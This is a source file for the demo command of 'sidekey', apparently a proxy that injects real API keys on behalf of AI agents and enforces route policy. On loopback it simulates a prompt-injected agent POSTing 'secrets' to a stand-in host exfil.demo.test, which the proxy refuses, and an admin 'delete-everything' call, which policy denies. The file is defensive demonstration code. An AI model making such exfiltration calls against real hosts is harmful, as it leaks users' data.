import { randomBytes } from 'node:crypto';
import { createServer } from 'node:https';
import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Writable } from 'node:stream';
import { ProxyAgent, request } from 'undici';
import { createCA } from '../ca/authority.js';
import { createLeafKey, mintLeaf } from '../ca/leaf.js';
import { DEFAULTS } from '../config.js';
import { createLogger } from '../observe/logger.js';
import { startSidekey } from '../sidekey.js';
const DEMO_POLICY = `version: v1
credentials:
  demo-key:
    type: static
    env: SIDEKEY_DEMO_KEY
routes:
  - name: no-admin
    host: api.demo.test
    paths: ["/v1/admin/**"]
    action: deny
  - name: demo-api
    host: api.demo.test
    ports: [443]
    paths: ["/v1/**"]
    credential: demo-key
    # the stand-in runs on loopback, which sidekey refuses unless a route names it
    addresses: [127.0.0.1]
`;
/**
 * `sidekey demo`: on loopback, with no accounts, an agent calls an API stand-in through sidekey.
 * Shows the credential injected (the agent only ever had a placeholder), a call denied by policy,
 * a destination outside policy refused, and the audit lines sidekey wrote.
 */
export async function demo() {
    const dir = await mkdtemp(join(tmpdir(), 'sidekey-demo-'));
    const secret = `demo-${randomBytes(12).toString('hex')}`;
    process.env.SIDEKEY_DEMO_KEY = secret;
    const mask = (s) => s.replaceAll(secret, `${secret.slice(0, 7)}…(real key, ${secret.length} chars)`);
    // 1. An API stand-in with its own CA, which sidekey is told to trust for upstream TLS.
    const upstreamCa = await createCA(join(dir, 'upstream-ca'));
    const leafKey = createLeafKey();
    const api = createServer({ key: leafKey.privateKeyPem, cert: await mintLeaf(upstreamCa, leafKey, 'api.demo.test') }, (req, res) => {
        const auth = req.headers.authorization ?? '';
        res.writeHead(200, { 'content-type': 'application/json' });
        res.end(JSON.stringify({ path: req.url, key_is_real: auth === `Bearer ${secret}`, key_seen: auth === `Bearer ${secret}` ? 'Bearer <the real key>' : auth }));
    });
    await new Promise((r) => api.listen(0, '127.0.0.1', r));
    const apiPort = api.address().port;
    // 2. sidekey with the demo policy, its audit lines captured for display.
    await mkdir(join(dir, 'policies'));
    await writeFile(join(dir, 'policies', 'demo.yaml'), DEMO_POLICY);
    const lines = [];
    const sink = new Writable({
        write(chunk, _enc, done) {
            lines.push(...chunk.toString().split('\n').filter(Boolean));
            done();
        },
    });
    const sidekey = await startSidekey({
        ...DEFAULTS,
        listen: { host: '127.0.0.1', port: 0 },
        admin: { host: '127.0.0.1', port: 0 },
        policyPath: join(dir, 'policies'),
        certsDir: join(dir, 'certs'),
        upstreamCaFile: upstreamCa.certPath,
        connectTo: new Map([['api.demo.test:443', { host: '127.0.0.1', port: apiPort }]]),
        watchPolicy: false,
    }, { logger: createLogger({ destination: sink }) });
    const { token } = sidekey.runTokens.mint('demo-agent');
    const agent = new ProxyAgent({ uri: sidekey.proxyUrl.replace('http://', `http://demo-agent:${token}@`), requestTls: { ca: sidekey.ca.certPem } });
    console.log('sidekey demo: an agent calls an API through sidekey, on loopback.\n');
    console.log(`policy (${join(dir, 'policies', 'demo.yaml')}):\n${DEMO_POLICY.replace(/^/gm, '  ')}`);
    try {
        console.log('1. The agent calls https://api.demo.test/v1/whoami with "Authorization: Bearer placeholder".');
        const ok = await request('https://api.demo.test/v1/whoami', { dispatcher: agent, headers: { authorization: 'Bearer placeholder' } });
        console.log(`   -> ${ok.statusCode} ${mask(await ok.body.text())}`);
        console.log('   The API received the real key; the agent never had it.\n');
        console.log('2. The agent tries https://api.demo.test/v1/admin/delete-everything.');
        const denied = await request('https://api.demo.test/v1/admin/delete-everything', { dispatcher: agent, method: 'DELETE' });
        console.log(`   -> ${denied.statusCode} x-sidekey-error: ${denied.headers['x-sidekey-error']}  ${await denied.body.text()}\n`);
        console.log('3. A prompt-injected agent tries to send data to https://exfil.demo.test/upload.');
        try {
            const exfil = await request('https://exfil.demo.test/upload', { dispatcher: agent, method: 'POST', body: 'secrets' });
            console.log(`   -> ${exfil.statusCode} (unexpected)`);
        }
        catch (err) {
            console.log(`   -> refused at CONNECT: ${err.message}\n`);
        }
    }
    finally {
        await agent.close();
        await sidekey.close();
        await new Promise((r) => api.close(() => r()));
        await rm(dir, { recursive: true, force: true });
    }
    console.log('Audit lines sidekey wrote (one per request or tunnel; secrets never appear):');
    for (const line of lines) {
        const a = JSON.parse(line);
        if (a.msg !== 'audit')
            continue;
        console.log(`  ${JSON.stringify({ event: a.event, workload: a.workload, method: a.method, host: a.host, path: a.path, route: a.route, decision: a.decision, reason: a.reason, credential: a.credential, status: a.status })}`);
    }
    const leaked = lines.some((l) => l.includes(secret));
    console.log(leaked ? '\nERROR: the secret appeared in a log line' : '\nThe secret appears in none of the log lines.');
    return leaked ? 1 : 0;
}
//# sourceMappingURL=demo.js.map